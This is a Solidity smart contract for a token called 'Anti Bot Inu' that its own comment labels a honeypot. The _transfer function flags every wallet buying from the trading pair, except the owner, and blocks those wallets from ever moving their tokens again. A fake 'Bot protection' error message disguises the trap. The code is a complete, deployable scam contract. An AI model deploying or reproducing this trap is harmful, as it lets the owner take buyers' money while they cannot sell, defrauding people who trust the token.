// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IDexRouter, IDexFactory} from "./Base.sol";

/// @title Honeypot: every wallet that buys from the pair is flagged as a
/// "sniper" and can never move its tokens again.
contract SniperTrap {
    string public constant name = "Anti Bot Inu";
    string public constant symbol = "ABINU";
    uint8 public constant decimals = 9;
    uint256 public totalSupply;

    address public owner;
    address public pair;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isSniper;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router, uint256 supply) {
        owner = msg.sender;
        pair = IDexFactory(IDexRouter(router).factory()).createPair(address(this), IDexRouter(router).WETH());
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "allowance");
            allowance[from][msg.sender] = a - amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(!isSniper[from], "Bot protection: sender flagged");
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        if (from == pair && to != owner) {
            isSniper[to] = true;
        }
        emit Transfer(from, to, amount);
    }
}
